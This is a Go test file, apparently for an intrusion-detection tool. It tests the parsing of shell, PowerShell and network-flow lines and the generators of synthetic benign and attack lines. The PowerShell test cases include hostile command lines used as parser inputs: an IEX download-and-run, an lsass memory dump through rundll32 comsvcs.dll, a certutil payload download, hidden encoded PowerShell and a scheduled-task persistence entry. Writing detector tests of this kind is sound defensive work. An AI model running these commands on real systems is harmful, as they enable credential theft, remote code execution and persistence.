@@ -1,0 +1,305 @@
+package modality
+
+import (
+	"errors"
+	"math/rand"
+	"strings"
+	"testing"
+
+	"clmids/internal/shell"
+)
+
+func TestRegistryNamesAndLookup(t *testing.T) {
+	names := Names()
+	for _, want := range []string{Shell, PowerShell, Flows} {
+		found := false
+		for _, n := range names {
+			if n == want {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("registry missing %q (have %v)", want, names)
+		}
+	}
+	if m := MustGet(""); m.Name() != Shell {
+		t.Errorf("empty name resolved to %q, want shell", m.Name())
+	}
+	if Canonical("") != Shell || Canonical(Flows) != Flows {
+		t.Error("Canonical mapping wrong")
+	}
+	_, err := Get("carrier-pigeon")
+	if !errors.Is(err, ErrUnknown) {
+		t.Fatalf("unknown modality error = %v, want ErrUnknown", err)
+	}
+	for _, n := range names {
+		if !strings.Contains(err.Error(), n) {
+			t.Errorf("unknown-modality error does not list %q: %v", n, err)
+		}
+	}
+	if err := Validate(PowerShell); err != nil {
+		t.Errorf("Validate(powershell) = %v", err)
+	}
+}
+
+func TestShellParseMatchesParser(t *testing.T) {
+	m := MustGet(Shell)
+	rec, err := m.Parse("  grep -i error /var/log/app.log   | grep -v DEBUG | head -n 5 ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rec.Line != "grep -i error /var/log/app.log | grep -v DEBUG | head -n 5" {
+		t.Errorf("canonical form = %q", rec.Line)
+	}
+	// Distinct names dedup the pipeline's two greps; occurrences keep both.
+	if want := []string{"grep", "head"}; !eqStrings(rec.Commands, want) {
+		t.Errorf("Commands = %v, want %v", rec.Commands, want)
+	}
+	if want := []string{"grep", "grep", "head"}; !eqStrings(rec.Occurrences, want) {
+		t.Errorf("Occurrences = %v, want %v", rec.Occurrences, want)
+	}
+	if _, err := m.Parse("echo 'unterminated"); !errors.Is(err, ErrUnparsable) {
+		t.Errorf("invalid shell line error = %v, want ErrUnparsable", err)
+	}
+}
+
+func TestPowerShellParse(t *testing.T) {
+	m := MustGet(PowerShell)
+	good := []struct {
+		line     string
+		commands []string
+	}{
+		{"Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
+			[]string{"get-process", "sort-object", "select-object"}},
+		{"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
+			[]string{"iex"}},
+		{`rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full`,
+			[]string{"rundll32"}},
+		{`C:\Windows\System32\cmd.exe /c whoami`, []string{"cmd.exe"}},
+		{"powershell.exe -NoP -W Hidden -EncodedCommand aGk=", []string{"powershell.exe"}},
+		{"$out = Get-Content report.log", []string{"get-content"}},
+		{"& certutil -urlcache -split -f http://203.0.113.9/p.exe p.exe", []string{"certutil"}},
+		{`schtasks /create /tn T /tr "powershell -enc aGk=" /sc minute`, []string{"schtasks"}},
+	}
+	for _, c := range good {
+		rec, err := m.Parse(c.line)
+		if err != nil {
+			t.Errorf("Parse(%q) rejected: %v", c.line, err)
+			continue
+		}
+		if !eqStrings(rec.Occurrences, c.commands) {
+			t.Errorf("Parse(%q) commands = %v, want %v", c.line, rec.Occurrences, c.commands)
+		}
+	}
+	// Whitespace is normalized; quoted spans are preserved verbatim.
+	rec, err := m.Parse(`  Write-Output   "two  spaces kept"  `)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rec.Line != `Write-Output "two  spaces kept"` {
+		t.Errorf("canonical form = %q", rec.Line)
+	}
+	bad := []string{
+		`"unterminated transcript `,
+		"| Select-Object Name",
+		"Get-Process | | Stop-Process",
+		"((Get-Date",
+		"} catch {",
+		">> report.log",
+		"",
+		"   ",
+	}
+	for _, line := range bad {
+		if _, err := m.Parse(line); !errors.Is(err, ErrUnparsable) {
+			t.Errorf("Parse(%q) = %v, want ErrUnparsable", line, err)
+		}
+	}
+}
+
+func TestFlowParse(t *testing.T) {
+	m := MustGet(Flows)
+	rec, err := m.Parse("  tcp   http fin dur2 sb3 db5 sp1 dp2 ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rec.Line != "tcp http fin dur2 sb3 db5 sp1 dp2" {
+		t.Errorf("canonical form = %q", rec.Line)
+	}
+	if want := []string{"tcp/http"}; !eqStrings(rec.Commands, want) || !eqStrings(rec.Occurrences, want) {
+		t.Errorf("units = %v / %v, want %v", rec.Commands, rec.Occurrences, want)
+	}
+	bad := []string{
+		"tcp http fin",
+		"tcp http fin durX sb2 db3 sp1 dp1",
+		"TCP HTTP FIN dur1 sb2 db3 sp1 dp1",
+		"tcp 80 fin dur1 sb2 db3 sp1 dp1",
+		"tcp http fin dur1 sb2 db3 sp1 dp1 extra",
+		"tcp http fin sb2 dur1 db3 sp1 dp1", // buckets out of order
+		"",
+	}
+	for _, line := range bad {
+		if _, err := m.Parse(line); !errors.Is(err, ErrUnparsable) {
+			t.Errorf("Parse(%q) = %v, want ErrUnparsable", line, err)
+		}
+	}
+}
+
+// TestGenContract exercises every registered generator directly: benign,
+// weird, typo, and recon lines must pass their own validator; garbage must
+// fail it; typo command units must stay disjoint from routine ones; attacks
+// must parse and cover both boxes across all families.
+func TestGenContract(t *testing.T) {
+	for _, name := range Names() {
+		t.Run(name, func(t *testing.T) {
+			m := MustGet(name)
+			rng := rand.New(rand.NewSource(5))
+			g := m.NewGen(rng)
+
+			routineUnits := map[string]bool{}
+			for i := 0; i < 300; i++ {
+				line := g.Benign(rng)
+				rec, err := m.Parse(line)
+				if err != nil {
+					t.Fatalf("benign line rejected: %q: %v", line, err)
+				}
+				for _, u := range rec.Occurrences {
+					routineUnits[u] = true
+				}
+			}
+			for i := 0; i < 60; i++ {
+				if _, err := m.Parse(g.Weird(rng)); err != nil {
+					t.Errorf("weird line rejected: %v", err)
+				}
+				if _, err := m.Parse(g.Garbage(rng)); !errors.Is(err, ErrUnparsable) {
+					t.Errorf("garbage line accepted, err=%v", err)
+				}
+				for _, line := range g.Recon(rng) {
+					if _, err := m.Parse(line); err != nil {
+						t.Errorf("recon line rejected: %q: %v", line, err)
+					}
+				}
+				typo := g.Typo(rng)
+				rec, err := m.Parse(typo)
+				if err != nil {
+					t.Errorf("typo line rejected: %q: %v", typo, err)
+					continue
+				}
+				// Only the head unit must be rare: a typo'd pipeline may
+				// legitimately flow into routine downstream commands
+				// ("dcoker images | head").
+				if len(rec.Occurrences) == 0 {
+					t.Errorf("typo line %q carries no command unit", typo)
+				} else if u := rec.Occurrences[0]; routineUnits[u] {
+					t.Errorf("typo line %q leads with routine unit %q", typo, u)
+				}
+			}
+
+			families := map[string][2]bool{} // family -> (saw in-box, saw oob)
+			for i := 0; i < 200; i++ {
+				atk := g.Attack(rng, i%2 == 0)
+				if len(atk.Lines) == 0 {
+					t.Fatalf("attack %s produced no lines", atk.Family)
+				}
+				for _, line := range atk.Lines {
+					if _, err := m.Parse(line); err != nil {
+						t.Errorf("attack line rejected: %q: %v", line, err)
+					}
+				}
+				f := families[atk.Family]
+				if atk.InBox {
+					f[0] = true
+				} else {
+					f[1] = true
+				}
+				families[atk.Family] = f
+			}
+			declared := g.Families()
+			if len(declared) == 0 {
+				t.Fatal("no attack families declared")
+			}
+			if len(families) != len(declared) {
+				t.Errorf("sampled %d families, declared %d", len(families), len(declared))
+			}
+			for fam, f := range families {
+				if !f[0] || !f[1] {
+					t.Errorf("family %s missing in-box or out-of-box variant: %v", fam, f)
+				}
+			}
+		})
+	}
+}
+
+// TestShellWeirdBenignShapes moved from the corpus package with the
+// generator; it pins the §III abnormal-yet-benign behaviours.
+func TestShellWeirdBenignShapes(t *testing.T) {
+	r := rand.New(rand.NewSource(4))
+	nm := newNaming(r)
+	sawMv, sawEcho := false, false
+	for i := 0; i < 60; i++ {
+		line := weirdBenignLine(r, nm)
+		if !shell.Valid(line) {
+			t.Errorf("weird line does not parse: %q", line)
+		}
+		if strings.HasPrefix(line, "mv ") {
+			sawMv = true
+			if len(strings.Fields(line)) < 8 {
+				t.Errorf("weird mv too small: %q", line)
+			}
+		}
+		if strings.HasPrefix(line, "echo ") {
+			sawEcho = true
+			if len(line) < 30 {
+				t.Errorf("weird echo too short: %q", line)
+			}
+		}
+	}
+	if !sawMv || !sawEcho {
+		t.Error("weird generator did not cover both mv and echo shapes")
+	}
+}
+
+// TestShellAttackVariantsWellFormed moved from the corpus package with the
+// generator.
+func TestShellAttackVariantsWellFormed(t *testing.T) {
+	r := rand.New(rand.NewSource(3))
+	nm := newNaming(r)
+	families := make(map[string][2]bool)
+	for _, v := range attackVariants {
+		lines := v.gen(r, nm)
+		if len(lines) == 0 {
+			t.Fatalf("variant %s produced no lines", v.family)
+		}
+		for _, line := range lines {
+			if !shell.Valid(line) {
+				t.Errorf("attack line does not parse: %q", line)
+			}
+		}
+		f := families[v.family]
+		if v.inBox {
+			f[0] = true
+		} else {
+			f[1] = true
+		}
+		families[v.family] = f
+	}
+	for fam, f := range families {
+		if !f[0] || !f[1] {
+			t.Errorf("family %s missing in-box or out-of-box variant: %v", fam, f)
+		}
+	}
+	if got := len(ShellAttackFamilies()); got != len(families) {
+		t.Errorf("ShellAttackFamilies = %d, want %d", got, len(families))
+	}
+}
+
+func eqStrings(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}
